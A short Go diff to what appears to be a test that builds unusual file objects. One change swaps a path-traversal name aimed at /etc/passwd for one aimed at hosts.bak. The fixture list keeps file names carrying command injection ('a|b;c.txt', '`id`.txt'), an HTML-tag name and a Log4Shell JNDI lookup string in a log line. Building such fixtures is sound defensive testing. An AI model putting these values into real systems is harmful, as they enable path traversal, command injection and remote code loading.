@@ -57,7 +57,7 @@ func useObjects(f *flow) {
 	}
 	f.step("files", func() (string, error) {
 		for _, x := range append(oddFiles, []struct{ name, text string }{
-			{"deep/../etc/passwd", "root:x:0:0:root:/root:/bin/bash\n"}, {".env", "KEY=1\n"}, {"backup/db.sql.gz",
+			{"deep/../etc/hosts.bak", "127.0.0.1 localhost\n"}, {".env", "KEY=1\n"}, {"backup/db.sql.gz",
 				"\x1f\x8b"}, {".git/config", "[core]\n"},
 			{"a|b;c.txt", "x"}, {"<b>.html", "<b>"}, {"`id`.txt", "y"}, {"logs/access.log",
 				"GET /?x=${jndi:ldap://e.example/a} 404\n"},
